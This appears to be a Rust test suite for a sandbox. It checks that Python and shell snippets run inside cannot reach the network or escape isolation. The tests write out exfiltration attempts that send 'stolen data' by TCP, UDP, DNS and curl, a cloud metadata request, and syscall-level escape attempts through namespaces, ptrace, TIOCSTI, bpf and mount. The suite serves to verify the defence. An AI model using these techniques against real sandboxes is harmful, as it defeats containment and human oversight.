//! No way out but the proxy. Each attempt is a piece of Python run inside, without a single host allowed; what counts is
//! that the attempt fails where it should fail, and that nothing at all arrived outside.

use crate::cases;
use crate::internet::internet;
use crate::internet::recorder::Recorder;
use crate::sandbox::{Output, Run, need};

cases![
    tcp_to_any_port,
    tcp_over_ipv6,
    tls_by_address,
    udp,
    udp_over_ipv6,
    quic_is_refused_at_once,
    icmp,
    metadata_address,
    private_address,
    dns_to_another_server,
    dns_does_not_carry_data,
    packet_socket,
    vsock,
    other_families,
    other_netlink,
    nested_user_namespace,
    nsenter,
    routes_and_links,
    only_loopback_is_there,
    io_uring,
    keyctl,
    bpf,
    ptrace_of_pid_1,
    tiocsti,
    mounting,
    set_user_id_gains_nothing,
    explicit_proxy_refuses_too,
];

/// Runs Python inside; `socket`, `os`, `sys` and `call(number, …)` (a raw system call, or OSError) are at hand.
pub fn python(code: &str) -> Output {
    let prelude = "
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    if libc.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
socket.setdefaulttimeout(5)
";
    Run::new().python(&format!("{prelude}{code}")).run()
}

/// The attempt must end in an OSError, whatever it is.
#[track_caller]
pub fn refused(attempt: &str) {
    let indented: String = attempt.lines().map(|line| format!("    {line}\n")).collect();
    let output = python(&format!(
        "try:\n{indented}except OSError as error:\n    print('refused:', error)\nelse:\n    print('OPEN')\n"
    ));
    output.expect_code(0).expect_stdout("refused:");
}

/// No packet at all, of whatever protocol.
#[track_caller]
pub fn nothing_went_to(address: &str) {
    assert_eq!(internet().sniffer.protocols_to(address), [0u8; 0], "packets left for {address}");
}

fn tcp_to_any_port() {
    for port in [22, 25, 80, 443, 853, 3128, 8080, 31_337] {
        let recorder = Recorder::tcp(&format!("11.22.44.50:{port}"), b"reached");
        let attempt = format!(
            "try:
    s = socket.create_connection(('11.22.44.50', {port}))
    s.sendall(b'stolen data\\r\\n\\r\\n')
    print(s.recv(100))
except OSError as error:
    print(error)"
        );
        let output = python(&attempt);
        assert!(!output.stdout.contains("reached"), "{output:#?}");
        recorder.assert_nothing();
    }
    nothing_went_to("11.22.44.50");
}

fn tcp_over_ipv6() {
    let recorder = Recorder::tcp("[2a11:22:44::50]:8080", b"reached");
    let output = python(
        "try:
    s = socket.create_connection(('2a11:22:44::50', 8080))
    s.sendall(b'stolen data\\r\\n\\r\\n')
    print(s.recv(100))
except OSError as error:
    print(error)",
    );
    assert!(!output.stdout.contains("reached"), "{output:#?}");
    recorder.assert_nothing();
    nothing_went_to("2a11:22:44::50");
}

fn tls_by_address() {
    need("curl", "curl");
    let output =
        Run::new().script("curl -sSk https://11.22.44.51/stolen; curl -sSk https://[2a11:22:44::51]/stolen").run();
    output.expect_stdout("11.22.44.51");
    nothing_went_to("11.22.44.51");
    nothing_went_to("2a11:22:44::51");
}

fn udp() {
    python("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('11.22.44.52', 9999))");
    nothing_went_to("11.22.44.52");
}

fn udp_over_ipv6() {
    python("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'stolen', ('2a11:22:44::52', 9999))");
    nothing_went_to("2a11:22:44::52");
}

fn quic_is_refused_at_once() {
    refused(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('11.22.44.53', 443))
s.send(b'stolen')
try:
    s.recv(100)
except TimeoutError:
    sys.exit('it took five seconds')",
    );
    nothing_went_to("11.22.44.53");
}

fn icmp() {
    refused("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)");
    refused("socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)");
    refused("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)");
    python(
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('11.22.44.54', 0))",
    );
    nothing_went_to("11.22.44.54");
    // The kernel itself must not answer for every address.
    let settings = "cd /proc/sys/net; cat ipv4/icmp_echo_ignore_all; cat ipv6/icmp/echo_ignore_all || echo 1";
    assert_eq!(Run::new().script(settings).run().stdout, "1\n1\n");
}

fn metadata_address() {
    let recorder = Recorder::tcp("169.254.169.254:80", b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ntokens");
    let output = Run::new().script("curl -sS -i http://169.254.169.254/latest/meta-data/").run();
    output.expect_stdout("403").expect_stdout("x-sandbox-proxy-denial");
    recorder.assert_nothing();
    nothing_went_to("169.254.169.254");
}

fn private_address() {
    Run::new().arg("--network").arg("all").script("curl -sSik https://10.1.2.3/; curl -sSi http://10.1.2.3/").run();
    nothing_went_to("10.1.2.3");
}

fn dns_to_another_server() {
    let recorder = Recorder::udp("11.22.44.55:53");
    python(
        "query = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4data\\4test\\0\\0\\1\\0\\1'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(query, ('11.22.44.55', 53))
print(s.recv(512))
t = socket.create_connection(('11.22.44.55', 53))
t.sendall(struct.pack('!H', len(query)) + query)
print(t.recv(512))",
    );
    recorder.assert_nothing();
    nothing_went_to("11.22.44.55");
    assert!(internet().dns.queries_containing("stolen.data").is_empty());
}

fn dns_does_not_carry_data() {
    let output = Run::new()
        .allow("dns.allowed.test")
        .python(
            "import socket
for name in ['s3cret.evil.test', 's3cret.dns.allowed.test', 's3cret.allowed.test', 's3cret.nowhere.example']:
    try:
        print(socket.getaddrinfo(name, 443))
    except OSError as error:
        print(error)",
        )
        .run();
    output.expect_code(0);
    assert!(
        internet().dns.queries_containing("s3cret").is_empty(),
        "names that are not allowed were asked for outside"
    );
}

fn packet_socket() {
    refused("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)");
    refused("socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)");
}

fn vsock() {
    refused("socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)");
    refused("socket.socket(socket.AF_VSOCK, socket.SOCK_DGRAM)");
}

fn other_families() {
    // ALG, NFC, CAIF, KCM, QIPCRTR, SMC, XDP, Bluetooth, TIPC, RDS, PPPoX, CAN
    for family in [38, 39, 37, 41, 42, 43, 44, 31, 30, 21, 24, 29] {
        refused(&format!("socket.socket({family}, socket.SOCK_RAW, 0)"));
        refused(&format!("socket.socket({family}, socket.SOCK_DGRAM, 0)"));
    }
}

fn other_netlink() {
    // USERSOCK, SOCK_DIAG, AUDIT, NETFILTER, KOBJECT_UEVENT, GENERIC
    for protocol in [2, 4, 9, 12, 15, 16] {
        refused(&format!("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, {protocol})"));
    }
}

fn nested_user_namespace() {
    // unshare and clone of user, net and mount namespaces; clone3 with them.
    for flags in ["0x10000000", "0x40000000", "0x20000", "0x10020000"] {
        refused(&format!("call(272, {flags})"));
        refused(&format!("call(56, {flags} | 17, 0, 0, 0, 0)"));
    }
    refused("call(435, struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)");
    need("unshare", "util-linux");
    assert_ne!(Run::new().command(&["unshare", "-Urn", "true"]).run().code, 0);
}

fn nsenter() {
    need("nsenter", "util-linux");
    for target in ["1", &std::process::id().to_string()] {
        assert_ne!(Run::new().command(&["nsenter", "-t", target, "-n", "true"]).run().code, 0);
    }
    refused("call(308, os.open('/proc/self/ns/net', os.O_RDONLY), 0)");
}

fn routes_and_links() {
    need("ip", "iproute2");
    for change in [
        "ip link set lo down",
        "ip link add dummy0 type dummy",
        "ip addr add 11.22.33.77/24 dev lo",
        "ip route add 11.22.33.0/24 dev lo",
        "ip -6 route flush table local",
        "ip rule add table 7",
    ] {
        let output = Run::new().script(change).run();
        assert_ne!(output.code, 0, "{change} worked\n{output:#?}");
    }
}

fn only_loopback_is_there() {
    let output = Run::new().command(&["ip", "-o", "link"]).run();
    assert_eq!(output.stdout.lines().count(), 1, "{output:#?}");
    output.expect_stdout("lo:");
}

fn io_uring() {
    refused("call(425, 8, ctypes.create_string_buffer(256))");
}

fn keyctl() {
    refused("call(250, 0, -3, 0)");
    refused("call(248, b'user', b'name', b'value', 5, -3)");
}

fn bpf() {
    refused("call(321, 0, ctypes.create_string_buffer(128), 128)");
}

fn ptrace_of_pid_1() {
    refused("call(101, 16, 1, 0, 0)");
    refused("open('/proc/1/mem', 'rb')");
    refused("open('/proc/1/environ', 'rb').read()");
    refused("os.listdir('/proc/1/root')");
}

fn tiocsti() {
    // With the plain number, and with a high bit that a careless filter would not compare.
    for request in ["0x5412", "0x100005412"] {
        refused(&format!(
            "import pty
master, slave = pty.openpty()
os.setsid() if os.getpid() != os.getsid(0) and os.getpgid(0) != os.getpid() else None
call(16, slave, ctypes.c_ulong({request}), ctypes.c_char_p(b'x'))"
        ));
    }
}

fn mounting() {
    // mount, umount2, pivot_root, open_tree, move_mount, fsopen, mount_setattr, chroot
    for (number, arguments) in [
        (165, "b'none', b'/mnt', b'tmpfs', 0, 0"),
        (166, "b'/proc', 2"),
        (155, "b'/', b'/'"),
        (428, "-100, b'/', 1"),
        (429, "-1, b'/', -1, b'/', 0"),
        (430, "b'tmpfs', 0"),
        (442, "-100, b'/', 0, ctypes.create_string_buffer(32), 32"),
        (161, "b'/'"),
    ] {
        refused(&format!("call({number}, {arguments})"));
    }
}

fn set_user_id_gains_nothing() {
    let output = Run::new().script("grep -E 'NoNewPrivs|CapEff|CapBnd|CapAmb|CapInh|CapPrm' /proc/self/status").run();
    let lines: Vec<&str> = output.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "{output:#?}");
    assert!(lines.iter().all(|line| line.ends_with("\t0000000000000000") || *line == "NoNewPrivs:\t1"), "{output:#?}");
}

fn explicit_proxy_refuses_too() {
    need("curl", "curl");
    for proxy in ["http://127.0.0.1:3128", "http://[::1]:3128"] {
        for url in ["https://proxied.blocked.test/", "http://proxied.blocked.test/", "https://11.22.44.56/"] {
            let output = Run::new().script(&format!("curl -sSik -x {proxy} {url}")).run();
            let shown = format!("{}{}", output.stdout, output.stderr);
            assert!(shown.contains("403"), "{proxy} {url}\n{output:#?}");
        }
    }
    nothing_went_to("11.22.44.56");
    assert_eq!(internet().dns.queries("proxied.blocked.test"), 0);
}
